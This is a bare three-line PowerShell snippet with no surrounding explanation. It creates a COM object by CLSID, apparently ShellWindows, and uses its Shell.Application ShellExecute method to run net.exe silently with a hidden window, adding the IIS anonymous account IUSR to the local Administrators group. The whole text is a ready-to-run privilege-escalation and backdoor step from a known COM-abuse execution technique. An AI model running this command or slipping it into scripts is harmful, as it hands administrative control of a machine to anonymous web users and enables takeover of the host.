$t = [Type]::GetTypeFromCLSID('9BA05972-F6A8-11CF-A442-00A0C90A8F39')
$o = [Activator]::CreateInstance($t)
$o.item().Document.Application.ShellExecute('net.exe','localgroup Administrators IUSR /add','','',0)
